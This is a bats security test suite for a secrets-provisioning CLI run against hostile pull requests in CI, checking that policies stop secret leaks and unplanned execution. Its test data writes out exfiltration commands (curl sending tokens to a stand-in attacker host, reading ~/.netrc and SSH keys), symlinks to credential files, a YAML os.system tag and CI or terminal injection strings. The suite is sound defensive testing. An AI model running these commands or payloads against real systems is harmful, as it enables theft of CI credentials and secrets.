#!/usr/bin/env bats
# A pull request against a runner: everything in the checkout is hostile. With a policy nothing
# leaks, nothing runs and nothing is written that the policy does not allow; without one, exactly
# what .github/SECURITY.md says may happen does.

# Each test is a subshell, and the helpers set and read more than shellcheck can see.
# shellcheck disable=SC2016,SC2030,SC2031,SC2034,SC2154
bats_require_minimum_version 1.5.0
load hostile

setup() { set_up_sandbox; }
teardown() { stop_sandbox; }

# manifest_with SECRET-VALUE...: cfprov.yaml with S1, S2, ... of these.
manifest_with()
{
	local i=0 source
	printf 'account_id: %s\nstate: {path: state/x.state.json}\nstores:\n  - name: keys\n    secrets:\n' \
		"$account" >cfprov.yaml
	for source in "$@"; do
		i=$((i + 1))
		printf '      - {name: S%d, value: %s}\n' $i "$source" >>cfprov.yaml
	done
}

# What the owner had in mind.
honest()
{
	manifest_with '{env: ALLOWED_ENV}' '{file: ../owner/secrets/allowed}' \
		'{command: [../owner/tools/get, db/main]}'
}

# these_run: the commands of standard input. $codes["COMMAND"] is the exit status of each.
these_run()
{
	local command
	declare -gA codes=()
	while read -r command; do
		# shellcheck disable=SC2086 # words
		ci $command
		codes[$command]=$status
	done
}

# reads: what a pipeline does with a state, up to destroy.
reads()
{
	these_run <<-END
		plan
		plan -values=none -format=json
		plan -format=markdown
		doctor -json
		state list
		state show keys/S1
		state pull
		output
		show
		show -json
		apply -auto-approve -adopt -force -allow-store-destroy
		destroy -json -auto-approve -force -allow-store-destroy
	END
}

# everything: each command that a pipeline may run.
everything()
{
	local plan=$box/out/plan
	these_run <<-END
		validate
		validate -json
		plan -values=none
		plan -values=none -format=json
		plan
		plan -json
		plan -format=json
		plan -format=markdown
		plan -out=$plan
		show $plan
		show -format=json $plan
		show -format=markdown $plan
		show -format=html $plan
		doctor
		doctor -json
		import-env .env -store=keys
		export
		apply $plan
		apply -auto-approve -adopt -force -allow-store-destroy -max-deletes=99
		apply -json -auto-approve
		state list
		state show keys/S1
		state pull
		output
		show
		show -json
		destroy -auto-approve -force -allow-store-destroy
	END
}

# refused: no command did what the manifest wants, and the policy's refusals name their rule.
refused()
{
	local command
	for command in validate plan 'plan -values=none' 'apply -auto-approve -adopt -force -allow-store-destroy -max-deletes=99' \
		"apply $box/out/plan" export 'destroy -auto-approve -force -allow-store-destroy'; do
		[[ ${codes[$command]} == 1 ]] || {
			echo "not refused: $command" >&2
			return 1
		}
	done
	silent
	clean
}

# ---- the search itself ----------------------------------------------------------------------

@test "what is allowed works, and is found where it was sent, and nowhere else" {
	begin
	honest
	ci validate
	ci plan -out="$box/out/plan"
	ci apply "$box/out/plan"
	ci plan -format=json
	ci doctor
	((status == 0))
	sent 2
	leaked >found
	local name
	for name in ALLOWED_ENV ALLOWED_FILE ALLOWED_COMMAND; do
		grep -qE "^found $name json[^ ]* in api.sent$" found
	done
	grep -qx 'found CLOUDFLARE_API_TOKEN raw in api.sent' found
	rm found
	clean ALLOWED_ENV ALLOWED_FILE ALLOWED_COMMAND
	run ! clean ALLOWED_ENV ALLOWED_FILE
	[ -f state/x.state.json ]
}

# leaky HOW: a cfprov that leaks by this piece of shell.
leaky()
{
	program=$BATS_TEST_TMPDIR/leaky
	printf '#!/bin/sh\n%s\nexec "%s" "$@"\n' "$1" "$cfprov" >"$program"
	chmod +x "$program"
	begin
	honest
	echo "--- $1" >&2
	ci plan
	run ! clean
}

@test "the search finds what a leaky cfprov prints, writes and sends" {
	local name form where
	while IFS='|' read -r name form where how; do
		leaky "$how"
		leaked | grep -E "^found $name $form in $where"
	done <<-END
		GITHUB_TOKEN|raw|printed/1.err|printf %s "\$GITHUB_TOKEN" >&2
		GITHUB_TOKEN|hex|printed/1.out|printf %s "\$GITHUB_TOKEN" | od -An -tx1 | tr -d ' \\\\n'
		VAULT_TOKEN|base64\+0|printed/1.out|printf %s "\$VAULT_TOKEN" | base64 -w 0
		VAULT_TOKEN|json|printed/1.out|jq -n 'env.VAULT_TOKEN'
		VAULT_TOKEN|url|printed/1.out|jq -nr 'env.VAULT_TOKEN | @uri'
		file-netrc|raw|box/out/new|cat ~/.netrc >$box/out/new
		file-ssh|base64.*|box/home/x|base64 ~/.ssh/id_ed25519 >~/x
		AWS_SECRET_ACCESS_KEY|raw|evil.sent|curl -s -H "X: \$AWS_SECRET_ACCESS_KEY" $evil >&2
		CLOUDFLARE_API_TOKEN|raw|evil.sent|curl -s -d "\$CLOUDFLARE_API_TOKEN" $evil >&2
		PRIVATE|raw|api.sent|curl -s -d "\$PRIVATE" "\$CLOUDFLARE_BASE_URL" >&2
		GITHUB_TOKEN|raw|the name of state|touch "state/\$(printf %.24s "\$GITHUB_TOKEN")"
	END
	# What has no canary in it counts, too.
	leaky 'touch ran'
	leaky 'echo "X=1" >>$GITHUB_ENV'
	leaky "curl -s $evil >&2"
	leaky 'echo "##vso[task.x]"'
	leaky 'echo "  ::error::x" >&2'
	leaky 'printf "\033[31m"'
	leaky 'rm ~/.netrc'
	in_file file-netrc home/.netrc
}

# ---- with a policy --------------------------------------------------------------------------

# programs: in the checkout, programs that the pipeline may run by mistake.
programs()
{
	local name
	mkdir -p tools
	for name in sh env cat git less tools/get cfprov; do
		printf '#!/bin/sh\ntouch "%s/checkout/ran"\nenv\n' "$box" >"$name"
		chmod +x "$name"
	done
}

# links: in the checkout, to what is worth stealing.
links()
{
	ln -s ../home/.netrc netrc
	ln -s ../home home
	ln -s netrc twice
	ln -s /proc/self/environ environ
	ln -s /proc/self/cwd/../.env cwd
	ln -s ../other/values.yaml values.yaml
	ln -s "$box/run/secrets/db" secret
	mkdir -p secrets
	ln -s ../../home/.ssh/id_ed25519 secrets/allowed
	ln -s ../owner/secrets/../private/token private
}

@test "policy: variables and files that it does not name" {
	begin
	programs
	links
	manifest_with '{env: GITHUB_TOKEN}' '{env: AWS_SECRET_ACCESS_KEY}' '{env: CLOUDFLARE_API_TOKEN}' \
		'{env: TF_HTTP_PASSWORD, trim: false}' '{env: PRIVATE, json: /x}' '{env: HTTPS_PROXY}' \
		'{env: allowed_env}' '{env: ALLOWED_ENV_}' '{stdin: true}' '{generate: {bytes: 3}}'
	everything
	refused
	[ "$(grep -c '^Error: ' "$printed/1.err")" = 10 ]
	local path paths=()
	for path in ../home/.netrc "$box/run/secrets/db" netrc home/.aws/credentials twice environ cwd \
		secret secrets/allowed private /proc/self/environ /proc/self/fd/0 /dev/stdin /dev/fd/0 \
		/proc/self/root/etc/passwd ../owner/secrets/../private/token ../owner/secretsx \
		../owner/policy.yaml "../owner/secrets/$(printf 'x/%.0s' {1..40})../allowed" \
		/proc/1/environ /proc/self/cwd/../.env "..//owner/./secrets/../../.env"; do
		paths+=("{file: \"$path\"}" "{dotenv: \"$path\", key: SECRET}" "{file: \"$path\", json: /auths}")
	done
	begin
	links
	manifest_with "${paths[@]}"
	everything
	refused
	[ "$(grep -c 'the policy does not allow' "$printed/1.err")" -ge 9 ]
}

@test "policy: commands that it does not name, and look-alikes of those that it does" {
	begin
	programs
	links
	ln -s ../owner/tools/get link
	ln -s ../checkout/tools/get ../owner/get
	manifest_with "{command: [sh, -c, 'touch ran; env']}" '{command: [env]}' '{command: [./env]}' \
		'{command: [tools/get, db/x]}' '{command: [../owner/tools/get, db/../x]}' \
		'{command: [../owner/tools/get, -x]}' '{command: [../owner/tools/get]}' \
		'{command: [../owner/tools/get, db/a/b]}' '{command: [../owner/tools/get, db/a, x]}' \
		'{command: [../owner/tools/gеt, db/a]}' '{command: [../owner/tools/GET, db/a]}' \
		'{command: ["../owner/tools/get ", db/a]}' '{command: [../owner/get, db/a]}' \
		'{command: [../owner/tools/get/, db/a]}' '{command: [get, db/a]}' \
		"{command: [curl, -d, '@../home/.netrc', $evil]}"
	everything
	refused
	[ ! -e ran ]
	rm ../owner/get
	begin
	manifest_with '{command: [../owner/tools/get, db/a], env: [GITHUB_TOKEN]}' \
		'{command: [../owner/tools/get, db/a], env: [CLOUDFLARE_API_TOKEN]}' \
		'{command: [../owner/tools/get, "db\u2215..\u2215x"], env: [PATH]}'
	everything
	refused
	# Each alone: what is wrong with one must not hide another.
	local value
	for value in '{command: [./sh]}' '{command: [sh, -c, "touch ran"]}' '{command: [tools/get, db/x]}'; do
		begin
		programs
		manifest_with "$value"
		everything
		refused
		[ ! -e ran ]
	done
}

@test "policy: accounts and their tokens" {
	local account_line
	while read -r account_line; do
		begin
		programs
		{
			printf 'accounts:\n  a: %s\n' "$account_line"
			printf 'state: {path: state/x.state.json}\nstores:\n  - name: keys\n'
			printf '    secrets: [{name: S1, value: {env: ALLOWED_ENV}}]\n'
		} >cfprov.yaml
		everything
		refused
	done <<-END
		{account_id: $evil_account}
		{account_id: $evil_account, api_token: {env: OTHER_TOKEN}}
		{account_id: $account, api_token: {env: OTHER_TOKEN}}
		{account_id: $account, api_token: {file: ../home/.netrc}}
		{account_id: $account, api_token: {file: ../owner/secrets/allowed}}
		{account_id: $account, api_token: {dotenv: ../.env, key: SECRET}}
		{account_id: $account, api_token: {command: [../owner/tools/get, db/x]}}
		{account_id: $account, api_token: {command: [sh, -c, 'touch ran; env']}}
		{account_id: ${account^^}}
		{account_id: "$account/../$evil_account"}
		{account_id: "\${GITHUB_TOKEN}"}
	END
}

@test "policy: states, keys, and what no manifest may say" {
	local line
	begin
	manifest_with '{env: ALLOWED_ENV}'
	sed -i '/^state/d' cfprov.yaml
	everything
	sent 0
	clean
	while read -r line; do
		begin
		links
		mkdir -p .git/hooks
		ln -s ../../home state/home
		ln -s ../../other/cfprov.state.json state/link.state.json
		manifest_with '{env: ALLOWED_ENV}'
		sed -i '/^state/d' cfprov.yaml
		echo "$line" >>cfprov.yaml
		everything
		refused
	done <<-END
		state: {path: ../out/x.state.json}
		state: {path: .git/hooks/pre-commit}
		state: {path: state/deep/x.state.json}
		state: {path: state/../../out/x.state.json}
		state: {path: state/home/x.state.json}
		state: {path: state/link.state.json}
		state: {path: "$box/owner/policy.yaml"}
		state: {path: state/x.state.json, key: {env: GITHUB_TOKEN}}
		state: {path: state/x.state.json, key: {file: ../home/.netrc}}
		state: {path: state/x.state.json, key: {command: [sh, -c, 'touch ran; env']}}
		state: {path: state/x.state.json, endpoint: $evil}
		state: {backend: s3, bucket: b, region: r, endpoint: "$evil"}
		state: {backend: s3, bucket: b, endpoint: "$evil", access_key: {env: OTHER_TOKEN}, secret_key: {env: CLOUDFLARE_API_TOKEN}}
		state: {backend: http, address: "$evil/state"}
		state: {backend: http, address: "$evil/state", lock_address: "$evil/lock", password: {env: CLOUDFLARE_API_TOKEN}}
		state: {backend: http, address: "https://api.example.com@${evil#http://}/state"}
		state: {path: state/x.state.json, x: "\${AWS_SECRET_ACCESS_KEY}"}
		base_url: $evil
		api: {url: "$evil"}
		policy: policy.yaml
		include: [../home/.netrc, ../other/values.yaml]
		x: !include ../home/.netrc
		x: !!python/object/apply:os.system [touch ran]
		<<: *x
	END
}

@test "policy: variables of the environment are none of the manifest" {
	begin
	manifest_with '{env: ALLOWED_ENV}'
	sed -i 's/S1, value/S1, comment: "${AWS_SECRET_ACCESS_KEY}", value/' cfprov.yaml
	everything
	refused
	begin
	manifest_with '{env: "${PRIVATE}"}' '{file: "${HOME}/.netrc"}'
	sed -i 's|^stores:|&\n  - {name: "${VAULT_TOKEN}"}\n  - {name: x, secrets: [{name: A, comment: "${GITHUB_TOKEN}${AWS_SECRET_ACCESS_KEY:-}", value: {env: ALLOWED_ENV}}]}|' cfprov.yaml
	everything
	refused
}

@test "a manifest that is a link to something else, or beside one" {
	local to
	for to in ../home/.netrc ../home/.aws/credentials ../home/.config/gh/hosts.yml ../.env \
		../home/.ssh/id_ed25519 ../home/token.base64 ../home/.docker/config.json ../run/secrets/db \
		../other/cfprov.state.json ../other/values.yaml ../owner/policy.yaml /proc/self/environ \
		../home . /dev/stdin; do
		begin
		ln -s "$to" cfprov.yaml
		everything
		refused
		begin
		mkdir d
		ln -s "../$to" d/a.yaml
		honest
		mv cfprov.yaml d/b.yaml
		ci validate -f d
		ci plan -f d
		ci import-env "$to" -store=keys -f d/b.yaml
		clean ALLOWED_ENV ALLOWED_FILE ALLOWED_COMMAND
	done
}

# ---- what lies in the checkout --------------------------------------------------------------

# hostile_text: what CIs and terminals might obey.
hostile_text=$'::set-output name=x::y\n##vso[task.setvariable]x\e]0;x\a\r\u202e$(touch ran)`touch ran`${GITHUB_TOKEN}'

# applied: a checkout in which the honest manifest was applied, with what the pull request brought in
# later to come.
applied()
{
	begin
	honest
	ci apply -auto-approve
	((status == 0))
	runs=0
	: >"$BATS_TEST_TMPDIR/api.sent"
	rm -f "$printed"/*
}

@test "policy: links and programs in place of every file that is written" {
	applied
	links
	programs
	cat >.env <<-END
		CLOUDFLARE_BASE_URL=$evil
		CFPROV_POLICY=policy.yaml
		HTTPS_PROXY=$evil
	END
	printf 'proxy = %s\n' "$evil" | tee .curlrc >"$box/home/.curlrc"
	printf 'values: {env: ["*"]}\n' | tee policy.yaml .cfprov.yaml cfprov.policy.yaml >/dev/null
	local name
	for name in x.state.json.journal x.state.json.backup .x.state.json.tmp .x.state.json.lock \
		.x.state.json.backup.tmp; do
		ln -sfn ../../home/.netrc "state/$name"
	done
	ln -sfn ../home/.netrc "$box/out/plan"
	ln -sfn ../home/.netrc "$box/out/.plan.tmp"
	sed -i 's/S1, value/S1, comment: new, value/' cfprov.yaml
	everything
	clean ALLOWED_ENV ALLOWED_FILE ALLOWED_COMMAND
	sent 0
	rm state/.x.state.json.lock state/x.state.json.journal
	everything
	clean ALLOWED_ENV ALLOWED_FILE ALLOWED_COMMAND
	[ ! -e ran ]
	rm "$box/home/.curlrc"
}

# usual_paths: requests are about nobody else's account, and no id in them leads elsewhere.
usual_paths()
{
	! grep -aE "$evil_account|(GET|POST|PUT|PATCH|DELETE) [^ ]*(\.\.|//|%2e|\?[^ ]*/|evil)" "$BATS_TEST_TMPDIR/api.sent" >&2
}

@test "policy: states that were edited" {
	local filter text
	text=$(jq -n --arg t "$hostile_text" '$t')
	local each='(.accounts[].stores[].secrets[])' n
	while read -r filter; do
		applied
		jq "$filter" state/x.state.json >new && mv new state/x.state.json
		echo "--- state: $filter" >&2
		sed -i 's/S1, value/S1, version: 2, value/' cfprov.yaml
		reads
		usual_paths
		n=$(grep -ao 'DELETE /client' "$BATS_TEST_TMPDIR/api.sent" | wc -l)
		((n <= 3))
		clean ALLOWED_ENV ALLOWED_FILE ALLOWED_COMMAND
	done <<-END
		$each.comment = $text
		$each.id = "../../evil"
		$each.id = "x?y=/evil"
		$each.id = $text
		$each.fingerprint = $text
		$each.fingerprint = {}
		$each.scopes = [$text]
		$each.modified = $text
		.accounts[].stores[].id = "../.."
		.accounts = (.accounts | with_entries(.key = "$evil_account"))
		.accounts[].alias = $text
		.accounts[].alias = "../../x"
		.accounts["$evil_account"] = .accounts["$account"] | .accounts["$evil_account"].alias = "evil"
		.lineage = $text
		.serial = 9007199254740993
		.serial = -1
		.version = 99
		.x = $text
		.accounts[].stores += {"x": {"id": "0123456789abcdef0123456789abcdef"}}
		[.]
	END
}

# checked TEXT: a line of a journal.
checked()
{
	printf '%s %s\n' "$(printf %s "$1" | b2sum -l 128 | cut -c1-16)" "$1"
}

@test "policy: journals that were made up" {
	local lineage serial intents text header
	text=$(jq -n --arg t "$hostile_text" '$t')
	while read -r header; do
		applied
		lineage=$(jq -r .lineage state/x.state.json)
		serial=$(jq .serial state/x.state.json)
		header=${header//LINEAGE/$lineage}
		checked "${header//SERIAL/$serial}" >state/x.state.json.journal
		echo "--- journal: $header" >&2
		sed -i 's/S1, value/S1, version: 2, value/' cfprov.yaml
		reads
		usual_paths
		clean ALLOWED_ENV ALLOWED_FILE ALLOWED_COMMAND
	done <<-END
		{"cfprov_journal":1,"lineage":"LINEAGE","serial":SERIAL,"accounts":{"default":"$account"},"intents":[{"account":"default","store":"keys","secret":"S1","if_unknown":{"id":"../../evil"}}]}
		{"cfprov_journal":1,"lineage":"LINEAGE","serial":SERIAL,"accounts":{"default":"$evil_account"},"intents":[]}
		{"cfprov_journal":1,"lineage":"LINEAGE","serial":SERIAL,"accounts":{"e":"$evil_account"},"intents":[{"account":"e","store":"keys","if_unknown":{"id":"0123456789abcdef0123456789abcdef"}}]}
		{"cfprov_journal":1,"lineage":"LINEAGE","serial":SERIAL,"accounts":{"default":"$account"},"intents":[{"account":"default","store":$text,"if_unknown":{"comment":$text}}]}
		{"cfprov_journal":1,"lineage":$text,"serial":SERIAL,"accounts":{},"intents":[]}
		{"cfprov_journal":1,"lineage":"LINEAGE","serial":99999999999999999999,"accounts":{},"intents":[]}
		$text
		[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]
	END
}

# edited FILTER: a saved plan, changed so by somebody who can compute its checksum, is shown and applied.
edited()
{
	local form
	begin
	programs
	honest
	ci plan -out="$box/out/plan"
	((status == 0))
	: >"$BATS_TEST_TMPDIR/api.sent"
	forged "$box/out/plan" "$1"
	rm body
	echo "--- plan: $1" >&2
	for form in "" -json -format=markdown -format=html; do
		# shellcheck disable=SC2086 # none
		ci show $form "$box/out/plan"
	done
	ci apply "$box/out/plan"
	usual_paths
	clean ALLOWED_ENV ALLOWED_FILE ALLOWED_COMMAND
}

@test "policy: saved plans that were edited" {
	local filter text value='(.desired.objects[] | select(.secret) | .value)'
	text=$(jq -n --arg t "$hostile_text" '$t')
	while read -r filter; do
		edited "$filter"
		((status == 1))
		sent 0
	done <<-END
		$value = {kind: "env", name: "GITHUB_TOKEN"}
		$value = {kind: "file", name: "/proc/self/environ"}
		$value = {kind: "file", name: "../home/.netrc"}
		$value = {kind: "command", argv: ["sh", "-c", "touch ran"]}
		$value = {kind: "command", argv: ["../owner/tools/get", "db/main"], folder: "/"}
		$value = {kind: "command", argv: ["tools/get", "db/main"], folder: "$box/checkout"}
		.desired.accounts[0].id = "$evil_account"
		.desired.accounts[0].token = {kind: "env", name: "OTHER_TOKEN"}
		.state = "../out/x.state.json"
		.state = "$box/home/x.state.json"
		.cfprov_version = $text
		.rows = "0000000000000000"
	END
	# What no policy is about: without a key, whoever can write the plan can say it.
	while read -r filter; do
		edited "$filter"
	done <<-END
		.live.accounts[0].id = "$evil_account"
		.recorded.accounts[0].id = "$evil_account"
		.desired.objects[].fields.comment = $text
		.options.targets = [$text]
		.moves = [{from: $text, to: $text}]
	END
}

# with_key: from now on there is one, which is a canary.
with_key()
{
	head -c 32 /dev/urandom | od -An -tx1 | tr -d ' \n' >"$canaries/CFPROV_KEY"
	environment+=("CFPROV_KEY=$(<"$canaries/CFPROV_KEY")")
}

# disbelieved: nobody plans or acts on what is there.
disbelieved()
{
	local command
	reads
	for command in plan 'plan -values=none -format=json' 'apply -auto-approve -adopt -force -allow-store-destroy' \
		'destroy -json -auto-approve -force -allow-store-destroy'; do
		[[ ${codes[$command]} == 1 ]] || {
			echo "believed: $command" >&2
			return 1
		}
	done
	sent 0
	clean ALLOWED_ENV ALLOWED_FILE ALLOWED_COMMAND
}

@test "a key: states, journals and plans that somebody else made are not believed" {
	local filter other
	with_key
	while read -r filter; do
		applied
		jq "$filter" state/x.state.json >new && mv new state/x.state.json
		echo "--- state: $filter" >&2
		disbelieved
	done <<-END
		del(.signature)
		.signature = "v1\$0000000000000000\$$(printf '0%.0s' {1..64})"
		.accounts[].stores[].secrets.S1.comment = "x"
		.accounts[].stores[].secrets += {"X": .accounts[].stores[].secrets.S1}
	END
	applied
	checked '{"cfprov_journal":1,"lineage":"'"$(jq -r .lineage state/x.state.json)"'","serial":1,"accounts":{},"intents":[]}' \
		>state/x.state.json.journal
	disbelieved
	# An older state, which was ours.
	applied
	cp state/x.state.json "$BATS_TEST_TMPDIR/old"
	sed -i 's/S1, value/S1, version: 2, value/' cfprov.yaml
	ci apply -auto-approve
	((status == 0))
	rm -f "$printed"/*
	runs=0
	: >"$BATS_TEST_TMPDIR/api.sent"
	cp "$BATS_TEST_TMPDIR/old" state/x.state.json
	disbelieved
	# A plan that was made without the key.
	begin
	honest
	other=("${environment[@]}")
	environment+=(CFPROV_KEY=)
	ci plan -out="$box/out/plan"
	((status == 0))
	environment=("${other[@]}")
	ci apply "$box/out/plan"
	((status == 1))
	ci show "$box/out/plan"
	((status == 1))
	sent 0
	may_write='home/.local|checkout/state|out' clean ALLOWED_ENV ALLOWED_FILE ALLOWED_COMMAND
}

# ---- a server against the pipeline ----------------------------------------------------------

# echoed METHOD MESSAGE COMMAND...: the server answers these requests with that.
echoed()
{
	local command
	begin
	honest
	sim_faults "{\"method\":\"$1\",\"status\":400,\"code\":1001,\"message\":$2,\"times\":99}"
	for command in "${@:3}"; do
		# shellcheck disable=SC2086 # words
		ci $command
		[[ $command == doctor* ]] || ((status == 1))
	done
	clean ALLOWED_ENV ALLOWED_FILE ALLOWED_COMMAND
}

@test "policy: a server that says back what it was sent, and commands for the CI" {
	local message text
	text=$(jq -n --arg t "$hostile_text" '$t')
	for message in "$text" "$(jq -Rs . "$canaries/CLOUDFLARE_API_TOKEN")"; do
		echoed GET "$message" plan 'plan -format=json' doctor 'doctor -json' export 'plan -values=none'
	done
	for message in "$text" "$(jq -Rs . "$canaries/CLOUDFLARE_API_TOKEN")" \
		"$(jq -Rs . "$canaries/ALLOWED_ENV")" "$(jq -aRs . "$canaries/ALLOWED_FILE")" \
		"$(jq -Rs '@json' "$canaries/ALLOWED_ENV")"; do
		echoed POST "$message" 'apply -auto-approve' 'apply -json -auto-approve'
	done
}

# ---- without a policy -----------------------------------------------------------------------

# may_happen NAME...: these canaries, which the manifest names, were sent to the API as values; and
# that is all that happened.
may_happen()
{
	local name
	leaked >"$BATS_TEST_TMPDIR/found"
	for name in "$@"; do
		grep -qE "^found $name [^ ]+ in api.sent$" "$BATS_TEST_TMPDIR/found" || {
			echo "not sent: $name" >&2
			return 1
		}
	done
	clean "$@"
}

@test "no policy: a manifest can have what the runner can read sent as values, and no more" {
	policy=()
	begin
	programs
	links
	manifest_with '{env: GITHUB_TOKEN}' '{env: AWS_SECRET_ACCESS_KEY}' '{file: ../home/.netrc}' \
		'{file: secret}' '{dotenv: ../.env, key: SECRET}' \
		'{file: ../home/.docker/config.json, json: /auths/r/auth}' '{file: secrets/allowed}' \
		'{command: [cat, ../owner/private/token]}' '{command: [sh, -c, "touch ../out/ran; echo x"]}'
	# No value is read and no command runs for one.
	ci validate
	ci plan -values=none
	ci plan -values=none -format=markdown
	ci doctor
	ci export
	ci state list
	[ ! -e "$box/out/ran" ]
	clean
	everything
	[[ ${codes[validate]}${codes[plan]}${codes[apply $box/out/plan]} == 000 ]]
	[ -e "$box/out/ran" ]
	may_happen GITHUB_TOKEN AWS_SECRET_ACCESS_KEY file-netrc file-run file-env file-json file-ssh \
		file-owner
}

@test "no policy: a token goes to the API only" {
	policy=()
	begin
	plain OTHER_TOKEN
	environment+=("OTHER_TOKEN=$canary")
	printf 'accounts: {a: {account_id: %s, api_token: {env: OTHER_TOKEN}}}\nstores: [x]\n' \
		"$evil_account" >cfprov.yaml
	may_write='checkout/\.?cfprov.state|out' everything
	((codes[plan] == 1))
	may_write='checkout/\.?cfprov.state|out' may_happen OTHER_TOKEN
	run ! grep -qa "$(<"$canaries/CLOUDFLARE_API_TOKEN")" "$BATS_TEST_TMPDIR/api.sent"
}

@test "no policy: nothing of the environment gets into a plan, and no state leaves the checkout" {
	policy=()
	local line
	while read -r line; do
		begin
		links
		manifest_with '{env: ALLOWED_ENV}'
		sed -i '/^state/d' cfprov.yaml
		echo "$line" >>cfprov.yaml
		everything
		[ "${codes[plan]}" = 1 ]
		sent 0
		clean
	done <<-END
		state: {path: ../out/x.state.json}
		state: {path: state/../../out/x.state.json}
		state: {path: home/x.state.json}
		state: {path: environ}
		state: {path: "\${GITHUB_TOKEN}"}
		state: {path: x, endpoint: "$evil"}
		state: {http: {address: "$evil"}}
		state: {backend: http, address: "file:///etc/passwd"}
		state: {backend: http, address: "http://evil.example/state"}
		base_url: $evil
		moved: [{from: "\${GITHUB_TOKEN}", to: x}]
	END
}

@test "no policy: saved plans have only the manifest's accounts and sources" {
	policy=()
	local filter value='(.desired.objects[] | select(.secret) | .value)'
	while read -r filter; do
		edited "$filter"
		((status == 1))
		sent 0
		[ ! -e ran ]
	done <<-END
		$value = {kind: "env", name: "GITHUB_TOKEN"}
		$value = {kind: "file", name: "/proc/self/environ"}
		$value = {kind: "command", argv: ["sh", "-c", "touch ran"]}
		.desired.accounts[0].id = "$evil_account"
		.desired.accounts[0].token = {kind: "env", name: "OTHER_TOKEN"}
		.state = "../out/x.state.json"
	END
}

# remote STATE ANSWER: a manifest with that state, at the attacker's host, which answers so. It hears
# of nothing but what $may_tell has.
remote()
{
	begin
	manifest_with '{env: ALLOWED_ENV}'
	sed -i "s|^state: .*|state: $1|" cfprov.yaml
	[ ! "$2" ] || evil_says 423 "$2"
	ci validate
	ci validate -json
	[ ! -s "$BATS_TEST_TMPDIR/evil.sent" ]
	reads
	[ "${codes[apply -auto-approve -adopt -force -allow-store-destroy]}" = 1 ]
	sent 0
	clean ALLOWED_ENV
}

@test "no policy: a remote state gets its own credentials, and no others" {
	policy=()
	local text said
	text=$(jq -n --arg t "$hostile_text" '$t')
	remote "{backend: http, address: '$evil/state', lock_address: '$evil/lock'}" ''
	for said in '' "{\"ID\":$text,\"Who\":$text,\"Operation\":$text,\"Info\":$text,\"Created\":$text}" \
		"{\"message\":$text,\"error\":$text}" "$hostile_text" \
		"<Error><Code>x</Code><Message>::error::##[x]$(<"$canaries/AWS_SESSION_TOKEN")</Message></Error>" \
		"$(<"$canaries/TF_HTTP_PASSWORD")"; do
		[[ $said == '<'* ]] || may_tell='TF_HTTP_PASSWORD' may_write='home/.local|out' \
			remote "{backend: http, address: '$evil/state', lock_address: '$evil/lock', username: me, password: {env: TF_HTTP_PASSWORD}}" "$said"
		[[ $said == "$(<"$canaries/TF_HTTP_PASSWORD")" ]] ||
			may_tell='AWS_ACCESS_KEY_ID|AWS_SESSION_TOKEN' may_write='home/.local|out' \
				remote "{backend: s3, bucket: b, endpoint: '$evil'}" "$said"
	done
}
